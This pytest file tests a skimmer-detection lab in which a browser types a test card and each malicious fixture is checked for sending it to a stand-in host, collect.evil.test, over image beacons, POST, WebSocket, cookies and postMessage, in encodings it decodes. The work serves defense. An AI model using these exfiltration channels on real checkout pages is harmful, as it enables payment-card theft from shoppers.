"""The skimmer lab: pages, scripts, the PSP, the collector and the WebSocket endpoint over plain HTTP,
then (browser) proof that every malicious fixture really exfiltrates the card it is typed."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import http.client
import json
import os
import re
import socket
import struct
import time
from collections import defaultdict
from collections.abc import Iterator
from urllib.parse import unquote

import pytest
from playwright.async_api import Browser, async_playwright

from skimguard.capture.browser import new_scan_context
from skimguard.config import IDENTITY_PRESETS, Identity, Site
from skimguard.testing.skimmers import (
    CASES,
    CIPHER_KEY_HEX,
    EVIL,
    GIF,
    PSP,
    SHOP,
    VENDOR,
    Case,
    Received,
    SkimmerLab,
    case_script,
    site_config,
    ws_accept,
)

CARD = {"card_number": "4111111111111111", "expiry": "12/30", "cvc": "123", "holder": "TARO TEST"}
FIELDS = (("#cc-number", CARD["card_number"]), ("#cc-exp", CARD["expiry"]), ("#cc-cvc", CARD["cvc"]),
          ("#cc-name", CARD["holder"]))
CHROMIUM = "/usr/bin/chromium"


@pytest.fixture()
def lab() -> Iterator[SkimmerLab]:
    with SkimmerLab() as server:
        yield server


def call(lab: SkimmerLab, method: str, path: str, host: str = SHOP, body: bytes | None = None,
         headers: dict[str, str] | None = None) -> tuple[int, dict[str, str], bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", lab.port, timeout=5)
    try:
        conn.request(method, path, body=body, headers={"Host": f"{host}:{lab.port}", **(headers or {})})
        reply = conn.getresponse()
        return reply.status, {k.lower(): v for k, v in reply.getheaders()}, reply.read()
    finally:
        conn.close()


# --------------------------------------------------------------------------- cases and pages


def test_case_matrix() -> None:
    malicious = [c for c in CASES.values() if c.malicious]
    benign = [c for c in CASES.values() if not c.malicious]
    assert len(malicious) == 11 + 9 + 9 - 2 and len(benign) == 5
    spared = {c.id: c.second_pass for c in malicious if c.second_pass}
    assert spared == {"image-b64-mobile": "mobile-en", "image-b64-english": "mobile-en"}
    assert "image-b64-click" in CASES and "localstorage-b64-blur" in CASES
    for case in malicious:
        assert case.id == f"{case.channel}-{case.encoding}-{case.trigger}"
        assert case.expect_host in (EVIL, SHOP) and case.expect_channel and "card_number" in case.expect_values
    assert CASES["cookie-b64-click"].expect_host == SHOP
    assert CASES["cookie-b64-click"].expect_channel == "cookie"
    assert CASES["postmessage-b64-click"].expect_channel == "postMessage"
    assert CASES["first-party-b64-click"].expect_host == SHOP
    assert "runtime attribution" in CASES["image-aes-click"].note
    for case in benign:
        assert case.expect_host is None and case.expect_channel is None and case.expect_values == ()
    assert CASES["benign-psp-fields"].script_host == PSP


@pytest.mark.parametrize("case_id", list(CASES))
def test_case_page_and_script_are_served(lab: SkimmerLab, case_id: str) -> None:
    case = CASES[case_id]
    status, headers, body = call(lab, "GET", f"/case/{case_id}")
    page = body.decode()
    assert status == 200 and headers["content-type"].startswith("text/html")
    for needle in ('id="cc-number" name="cc_number" autocomplete="cc-number"', 'autocomplete="cc-exp"',
                   'autocomplete="cc-csc"', 'autocomplete="cc-name"', 'id="pay"', '<script src="/static/pay.js">',
                   f'<script src="{lab.script_url(case_id)}">'):
        assert needle in page
    status, headers, body = call(lab, "GET", f"/s/{case_id}.js", host=case.script_host)
    script = body.decode()
    assert status == 200 and headers["content-type"].startswith("application/javascript")
    assert script == case_script(case_id, lab.port) and "{{" not in script
    if case.malicious:
        assert f'var CASE = "{case_id}";' in script and "function encode(card)" in script
    other = VENDOR if case.script_host == PSP else PSP
    assert call(lab, "GET", f"/s/{case_id}.js", host=other)[0] == 404


def test_shop_pages(lab: SkimmerLab) -> None:
    status, headers, body = call(lab, "GET", "/static/pay.js")
    assert status == 200 and headers["content-type"].startswith("application/javascript")
    assert f"http://pay.psp.test:{lab.port}/v1/tokens" in body.decode()
    status, _, body = call(lab, "GET", "/done?token=tok_<b>")
    assert status == 200 and b'id="done"' in body and b"tok_&lt;b&gt;" in body
    assert call(lab, "GET", "/case/no-such-case")[0] == 404
    assert call(lab, "GET", "/", host="elsewhere.test")[0] == 404
    assert lab.url("/x") == f"http://shop.test:{lab.port}/x"
    assert lab.case_url("image-b64-click") == f"http://shop.test:{lab.port}/case/image-b64-click"
    assert set(lab.hosts) == {SHOP, VENDOR, PSP, EVIL, "stats.analytics.test"}
    assert set(lab.hosts.values()) == {"127.0.0.1"}
    with pytest.raises(KeyError):
        lab.case_url("nope")


def test_site_config_is_a_valid_site(lab: SkimmerLab) -> None:
    config = site_config(lab, "image-b64-delay")
    site = Site.model_validate(config)
    assert site.payment_hosts == [PSP] and site.block_unmapped_hosts
    assert site.journeys[0].steps[0].goto == "/case/image-b64-delay"
    assert site.hosts == lab.hosts and site.base_url == lab.url("/")


# --------------------------------------------------------------------------- PSP, collector, analytics


def test_token_api_answers_with_cors(lab: SkimmerLab) -> None:
    origin = f"http://shop.test:{lab.port}"
    status, headers, _ = call(lab, "OPTIONS", "/v1/tokens", host=PSP, headers={
        "Origin": origin, "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "content-type"})
    assert status == 204 and headers["access-control-allow-origin"] == origin
    assert "POST" in headers["access-control-allow-methods"]
    assert "content-type" in headers["access-control-allow-headers"].lower()
    card = json.dumps({"number": CARD["card_number"], "exp": "12/30", "cvc": "123", "name": "TARO TEST"})
    status, headers, body = call(lab, "POST", "/v1/tokens", host=PSP, body=card.encode(),
                                 headers={"Origin": origin, "Content-Type": "application/json"})
    assert status == 200 and headers["access-control-allow-origin"] == origin
    assert json.loads(body)["id"].startswith("tok_")
    status, headers, _ = call(lab, "POST", "/v1/tokens", host=PSP, body=b"{}",
                              headers={"Origin": "http://collect.evil.test", "Content-Type": "application/json"})
    assert status == 400 and "access-control-allow-origin" not in headers
    assert [h.path for h in lab.benign_received] == ["/v1/tokens", "/v1/tokens"]
    assert lab.received == []  # the legitimate destination is not a collector


def test_collector_records_get_and_post(lab: SkimmerLab) -> None:
    status, headers, body = call(lab, "GET", "/i.gif?d=QUJD+/=&case=image-b64-click", host=EVIL)
    assert status == 200 and headers["content-type"] == "image/gif" and body == GIF and body.startswith(b"GIF89a")
    status, headers, _ = call(lab, "POST", "/c?case=fetch-b64-click", host=EVIL, body=b"QUJD",
                              headers={"Content-Type": "text/plain", "Cookie": "a=1"})
    assert status == 200 and headers["access-control-allow-origin"] == "*"
    call(lab, "PUT", "/anything/at/all", host=EVIL, body=b"x" * 100_000)
    status, headers, _ = call(lab, "GET", "/r?d=x&case=navigation-b64-click", host=EVIL)
    assert status == 302 and headers["location"] == f"http://shop.test:{lab.port}/done"
    status, _, body = call(lab, "GET", "/frame.html?case=postmessage-b64-click", host=EVIL)
    assert status == 200 and b'addEventListener("message"' in body
    gif = call(lab, "GET", "/media/catalog/x.php?d=QUJD&case=first-party-b64-click")
    assert gif[0] == 200 and gif[2] == GIF
    call(lab, "GET", "/done", headers={"Cookie": "_sk_seen=1; _ga_x=cookie-b64-click:QUJD=="})
    call(lab, "GET", "/done", headers={"Cookie": "_sk_seen=1"})  # not recorded: no skimmer cookie

    hits = lab.received
    assert [(h.host, h.method, h.path) for h in hits] == [
        (EVIL, "GET", "/i.gif"), (EVIL, "POST", "/c"), (EVIL, "PUT", "/anything/at/all"), (EVIL, "GET", "/r"),
        (EVIL, "GET", "/frame.html"), (SHOP, "GET", "/media/catalog/x.php"), (SHOP, "GET", "/done")]
    first, post, big = hits[0], hits[1], hits[2]
    assert first.query == "d=QUJD+/=&case=image-b64-click" and first.param("d") == "QUJD+/="
    assert first.channel == "http" and first.case == "image-b64-click"
    assert post.body == b"QUJD" and post.cookie == "a=1" and post.case == "fetch-b64-click"
    assert len(big.body) == 64 * 1024 and big.case is None
    assert hits[-1].case == "cookie-b64-click" and "_ga_x=cookie-b64-click:QUJD==" in hits[-1].cookie
    assert [h.path for h in lab.received_for("postmessage-b64-click")] == ["/frame.html"]

    status, _, _ = call(lab, "GET", "/collect?t=pageview", host="stats.analytics.test")
    assert status == 204 and [h.host for h in lab.benign_received] == ["stats.analytics.test"]
    assert isinstance(hits[0], Received) and len(lab.received) == 7
    lab.clear()
    assert lab.received == [] and lab.benign_received == []


def test_oversized_body_is_refused(lab: SkimmerLab) -> None:
    status, _, _ = call(lab, "POST", "/c", host=EVIL, headers={"Content-Length": str(2 * 1024 * 1024)})
    assert status == 413 and lab.received == []


# --------------------------------------------------------------------------- WebSocket


def test_ws_accept_matches_rfc6455_example() -> None:
    assert ws_accept("dGhlIHNhbXBsZSBub25jZQ==") == "s3pPLMBiTxaQ9kYGzzhZRbK+xOo="


def ws_frame(op: int, payload: bytes, *, fin: bool = True, mask: bool = True, long: bool = False) -> bytes:
    head = bytes([(0x80 if fin else 0) | op])
    bit = 0x80 if mask else 0
    n = len(payload)
    if long:
        head += bytes([bit | 127]) + struct.pack("!Q", n)
    elif n < 126:
        head += bytes([bit | n])
    else:
        head += bytes([bit | 126]) + struct.pack("!H", n)
    if not mask:
        return head + payload
    key = os.urandom(4)
    return head + key + bytes(b ^ key[i % 4] for i, b in enumerate(payload))


def ws_read(sock: socket.socket) -> tuple[int, bytes]:
    def exact(n: int) -> bytes:
        data = b""
        while len(data) < n:
            chunk = sock.recv(n - len(data))
            if not chunk:
                raise ConnectionError("closed")
            data += chunk
        return data

    b0, b1 = exact(2)
    assert not b1 & 0x80, "server frames are never masked"
    n = b1 & 0x7F
    if n == 126:
        (n,) = struct.unpack("!H", exact(2))
    elif n == 127:
        (n,) = struct.unpack("!Q", exact(8))
    return b0 & 0x0F, exact(n)


def ws_connect(lab: SkimmerLab, path: str = "/ws?case=websocket-b64-click") -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", lab.port), timeout=5)
    key = base64.b64encode(os.urandom(16)).decode()
    sock.sendall((f"GET {path} HTTP/1.1\r\nHost: collect.evil.test:{lab.port}\r\nUpgrade: websocket\r\n"
                  f"Connection: keep-alive, Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
                  "Sec-WebSocket-Version: 13\r\nOrigin: http://shop.test\r\n\r\n").encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = sock.recv(1)
        assert chunk, "connection closed during the handshake"
        head += chunk
    lines = head.decode().split("\r\n")
    assert lines[0].startswith("HTTP/1.1 101")
    fields = {k.lower(): v.strip() for k, _, v in (line.partition(":") for line in lines[1:] if line)}
    expected = base64.b64encode(hashlib.sha1((key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest())
    assert fields["sec-websocket-accept"] == expected.decode()
    assert fields["upgrade"].lower() == "websocket"
    return sock


def test_websocket_handshake_and_frames(lab: SkimmerLab) -> None:
    with ws_connect(lab) as sock:
        sock.sendall(ws_frame(0x1, b"websocket-b64-click:QUJD"))
        sock.sendall(ws_frame(0x2, bytes(range(256)) * 2))  # 16-bit length
        sock.sendall(ws_frame(0x1, b"part1-", fin=False) + ws_frame(0x9, b"ping!") + ws_frame(0x0, b"part2"))
        assert ws_read(sock) == (0xA, b"ping!")
        sock.sendall(ws_frame(0x1, b"x" * 1000, long=True))  # 64-bit length
        sock.sendall(ws_frame(0x8, struct.pack("!H", 1000) + b"bye"))
        assert ws_read(sock) == (0x8, struct.pack("!H", 1000))
    deadline = time.monotonic() + 3
    while len(lab.received) < 5 and time.monotonic() < deadline:
        time.sleep(0.02)
    handshake, *frames = lab.received
    assert (handshake.method, handshake.path, handshake.channel) == ("GET", "/ws", "http")
    assert [f.body for f in frames] == [b"websocket-b64-click:QUJD", bytes(range(256)) * 2, b"part1-part2",
                                        b"x" * 1000]
    assert all(f.channel == "websocket" and f.host == EVIL and f.path == "/ws" for f in frames)
    assert all(f.case == "websocket-b64-click" for f in frames)


@pytest.mark.parametrize("frame,code", [
    (ws_frame(0x1, b"x" * 70_000, long=True), 1009),  # over the frame bound
    (ws_frame(0x1, b"not masked", mask=False), 1002),
    (ws_frame(0x0, b"continuation of nothing"), 1002),
])
def test_websocket_protocol_errors_close(lab: SkimmerLab, frame: bytes, code: int) -> None:
    with ws_connect(lab, "/ws") as sock:
        sock.sendall(frame)
        assert ws_read(sock) == (0x8, struct.pack("!H", code))
    assert [h.channel for h in lab.received] == ["http"]


def test_bad_websocket_handshake(lab: SkimmerLab) -> None:
    status, _, _ = call(lab, "GET", "/ws", host=EVIL, headers={
        "Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Key": "short",
        "Sec-WebSocket-Version": "13"})
    assert status == 400


def test_stop_is_fast_with_an_open_websocket() -> None:
    lab = SkimmerLab().start()
    sock = ws_connect(lab)
    try:
        started = time.monotonic()
        lab.stop()
        assert time.monotonic() - started < 2
    finally:
        sock.close()


# --------------------------------------------------------------------------- browser: every fixture exfiltrates


def rc4(key: bytes, data: bytes) -> bytes:
    s, j = list(range(256)), 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) & 255
        s[i], s[j] = s[j], s[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) & 255
        j = (j + s[i]) & 255
        s[i], s[j] = s[j], s[i]
        out.append(byte ^ s[(s[i] + s[j]) & 255])
    return bytes(out)


def decode(encoding: str, value: str) -> str:
    """Undo one encoding; ``value`` is what the channel carried, URL-decoded once."""
    if encoding in ("plain", "url"):
        return value
    if encoding == "b64":
        return base64.b64decode(value).decode()
    if encoding == "rb64":
        return base64.b64decode(value[::-1]).decode()
    if encoding == "hex":
        return bytes.fromhex(value).decode()
    if encoding == "json":
        obj = json.loads(value)
        return "|".join(obj[k] for k in "nech")
    if encoding == "charcodes":
        return "".join(chr(int(c)) for c in value.split(","))
    if encoding == "nested3":
        return unquote(base64.b64decode(value).decode())[::-1]
    if encoding == "aes":  # over plain http the script falls back to RC4(key + nonce)
        raw = base64.b64decode(value)
        assert CARD["card_number"].encode() not in raw
        return rc4(bytes.fromhex(CIPHER_KEY_HEX) + raw[:12], raw[12:]).decode()
    raise AssertionError(encoding)


def carried(hit: Received, case: Case) -> list[tuple[str, str]]:
    """(where, value) pairs a hit may carry the skimmed data in."""
    out: list[tuple[str, str]] = []
    if (value := hit.param("d")) is not None:
        out.append(("query", value))
    if hit.body and hit.channel == "websocket":
        out.append(("websocket", hit.text.removeprefix(case.id + ":")))
    elif hit.body:
        out.append(("body", hit.text))
        if (form := hit.form("d")) is not None:
            out.append(("body", form))
    if cookie := re.search(r"(?:^|;\s*)_ga_x=([^;]*)", hit.cookie):
        out.append(("cookie", cookie.group(1).removeprefix(case.id + ":")))
    return out


# skimguard's channel name -> where the lab sees the data arrive, and a check on the hit
ARRIVES: dict[str, tuple[str, str]] = {
    "url": ("query", ""), "body": ("body", ""), "websocket": ("websocket", ""), "cookie": ("cookie", ""),
    "postMessage": ("query", "via=pm"), "localStorage": ("query", "via=ls"),
}


def proof(lab: SkimmerLab, case: Case) -> Received | None:
    """The first hit of ``case`` that carries every expected canary value where it should."""
    where, marker = ARRIVES[case.expect_channel or ""]
    for hit in lab.received_for(case.id):
        if hit.host != case.expect_host or marker not in hit.query:
            continue
        for source, value in carried(hit, case):
            if source != where:
                continue
            try:
                plain = decode(case.encoding, value)
            except (ValueError, KeyError, TypeError, UnicodeDecodeError):
                continue
            if all(CARD[v] in plain for v in case.expect_values):
                return hit
    return None


async def run_case(browser: Browser, user_agent: str, lab: SkimmerLab, case: Case) -> str | None:
    """Walk one checkout like a shopper; return a failure message or None."""
    evil_before = len([h for h in lab.received if h.host == EVIL])
    if case.second_pass:  # a skimmer that spares Japanese desktops: walk it as the identity it wants
        identity = Identity.model_validate(IDENTITY_PRESETS[case.second_pass])
        context, _ = await new_scan_context(browser, identity)
    else:
        context = await browser.new_context(user_agent=user_agent, locale="ja-JP")
    try:
        page = await context.new_page()
        await page.goto(lab.case_url(case.id), wait_until="load")
        for selector, value in FIELDS:
            field = page.locator(selector)
            await field.click()
            await field.press_sequentially(value, delay=5)
            await field.blur()
        await page.click("#pay")
        if case.malicious:
            deadline = time.monotonic() + 8
            while proof(lab, case) is None and time.monotonic() < deadline:
                await asyncio.sleep(0.1)
            if proof(lab, case) is None:
                got = [(h.host, h.method, h.path, h.query[:80], h.body[:80]) for h in lab.received_for(case.id)]
                return f"{case.id}: no proof of exfiltration to {case.expect_host}; got {got}"
        else:
            await page.wait_for_selector("#done", timeout=8000)
            await asyncio.sleep(0.5)
            evil = [h for h in lab.received if h.host == EVIL][evil_before:]
            if evil or lab.received_for(case.id):
                return f"{case.id}: a benign case reached the collector: {evil}"
        return None
    finally:
        await context.close()


def check_benign_traffic(lab: SkimmerLab) -> None:
    number = CARD["card_number"].encode()
    benign: dict[str | None, list[Received]] = defaultdict(list)
    for hit in lab.benign_received:
        benign[hit.case].append(hit)
    analytics = benign.get("benign-analytics", [])
    assert {h.param("t") for h in analytics} == {"pageview", "checkout"}
    assert all(number not in h.query.encode() + h.body for h in analytics)
    replay = benign.get("benign-replay", [])
    assert replay and any(b"****" in h.body for h in replay)
    assert all(number not in h.body and b"TARO" not in h.body for h in replay)
    checks = [h for h in lab.benign_received if h.path == "/v1/fields/check"]
    assert len(checks) == 1 and number in checks[0].body and checks[0].host == PSP
    tokens = [h for h in lab.benign_received if h.path == "/v1/tokens"]
    assert len(tokens) >= 5 and all(number in h.body for h in tokens)


@pytest.mark.browser
@pytest.mark.skipif(not os.path.exists(CHROMIUM), reason="needs /usr/bin/chromium")
def test_every_fixture_exfiltrates_in_a_real_browser() -> None:
    async def run(lab: SkimmerLab) -> list[str]:
        rules = ", ".join(f"MAP {host} {ip}" for host, ip in lab.hosts.items())
        args = ["--no-sandbox", "--disable-background-networking", "--disable-component-update",
                "--disable-sync", "--no-first-run", "--disable-blink-features=AutomationControlled",
                f"--host-resolver-rules={rules}, MAP * ~NOTFOUND"]
        async with async_playwright() as pw:
            browser = await pw.chromium.launch(executable_path=CHROMIUM, args=args, timeout=60_000)
            try:
                major = browser.version.split(".")[0]
                user_agent = (f"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
                              f"Chrome/{major}.0.0.0 Safari/537.36")
                failures = []
                for case in CASES.values():
                    failure = await run_case(browser, user_agent, lab, case)
                    if failure:
                        failures.append(failure)
                return failures
            finally:
                await browser.close()

    with SkimmerLab() as lab:
        failures = asyncio.run(run(lab))
        assert failures == [], "\n".join(failures)
        for case in CASES.values():
            if case.encoding not in ("plain", "url", "json") and case.malicious:
                wire = [h.query.encode() + h.body + h.cookie.encode() for h in lab.received_for(case.id)]
                assert all(CARD["card_number"].encode() not in w for w in wire), case.id
        partial = [h.param("d") for h in lab.received_for("image-b64-input")]
        assert len(partial) >= len(CARD["card_number"])  # one send per keystroke
        check_benign_traffic(lab)
